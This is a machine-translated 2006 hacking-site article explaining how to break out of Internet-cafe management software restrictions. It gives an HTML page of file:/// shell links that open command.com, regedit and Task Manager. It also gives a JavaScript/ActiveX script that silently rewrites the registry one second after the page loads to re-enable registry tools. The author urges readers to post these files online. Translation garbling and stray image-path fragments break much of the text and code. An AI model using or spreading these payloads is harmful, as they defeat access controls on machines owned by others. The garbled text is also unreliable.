Online crack cafe management software some of the limitations-vulnerability warning-the black bar safety net

ID MYHACK58:62200610813
Type myhack58
Reporter 佚名
Modified 2006-08-01T00:00:00


You know, sometimes in Internet cafes, often run into the cafe installed some management software, those software for the cafe Manager to say that is really helped a lot, but for those of us users sometimes feel very troublesome. Not sure I'm following this sentence in the HTML language to everyone if that helps.


< A href="file:///::{208D2C60-3AEA-1 0 6 9-A2D7-08002B30309D}" > show:“network neighbor” < A href="file:///::{20D04FE0-3AEA-1 0 6 9-A2D8-08002B30309D}" > show:“my computer”

< A href="file:///::{450D8FBA-AD25-11D0-98A8-0800361B1103}" > show:“my document”

< A href="file:///::{20D04FE0-3AEA-1 0 6 9-A2D8-08002B30309D}/::{21EC2020-3AEA-1 0 6 9-A

2DD-08002B30309D}" > show:“Control Panel”< A href="file:///::{645FF040-5 0 8 1-101B-9F08-00AA002F954E}" > show: the“Recycle Bin” R >

< A href="file:///c:/windows/system/display desktop. scf" > show desktop

< A href="file:///c:/windows/command. com" > the inputcommand, enter the DOS environment

< A href="file:///c:/windows/regedit.exe" > the run registry

< A href="file:///c:/windows/taskman.exe" > the run

Note: 点击链接后提示下载taskman.exe after downloading, open the program, then open the File menu, select“Run application”,as we usually use the“start”- > the“run”.

Put above these things the copy into a word processing software such as Notepad, and then stored as htm or html as the suffix name of the File, Open the file, we can easily break through certain Internet cafe management software some of the limitations, unfortunately, I now also not your own personal page, hope to see this article that reader to put the filesonline, so that wecan achieve online hack.

In addition, if the machine is theregistry of banned words, and then put the following content plus.

<SCRIPT language=java-script> document. write ("of < APPLET HEIGHT=0 WIDTH=0 code=com. ms. activeX. ActiveXComponent > the PPLET > a"); function f(){ try { //ActiveX initialization process(to achieve the To modify the user registry must be ready to program) a1=document. applets[0]; a1. setCLSID("{F935DC22-1CF0-11D0-ADB9-00C04FD58A0B}"); a1. the createInstance(); Shl = a1. The GetObject(); a1. setCLSID("{0D43FE01-F093-11CF-8 9 40-00A0C9054228}"); a1. the createInstance(); FSO = a1. The GetObject(); a1. setCLSID("{F935DC26-1CF0-11D0-ADB9-00C04FD58A0B}"); a1. the createInstance(); Net = a1. The GetObject(); try { if (document. cookie. indexOf("Chg") == -1) //The following is to detect the user registry and modify the key value { Shl. RegWrite("HKCU\Software\Microsoft\Windows\CurrentVersion\Policies\Syste m\DisableRegistryTools", "0 0 0 0 0 0 0 0", "REG_DWORD") var expdate = new Date((newDate()). getTime() + (1)); document. cookie="Chg=general; expires=" + expdate. toGMTString() + "; path=/;" } } catch(e) {} } catch(e) {} } function init() { setTimeout("f()", 1 0 0 0);//Open the page after 1 seconds execute the test modify the registry to work } init(); </SCRIPT>

Written to here, just want to receive a pen, but suddenly thought of a problem:although most of the WINDOWS operating system users are installed the system will be the system default installed in C:\WINDOWS directory, but in case not yet, so everyone can put thisseveral commonly used file issaved on your own electronic mailbox, after all, a few files add up to only 260K or so, but I think this possibility isvery small, in other words, I the above kind of method is stillvery useful, huh, huh.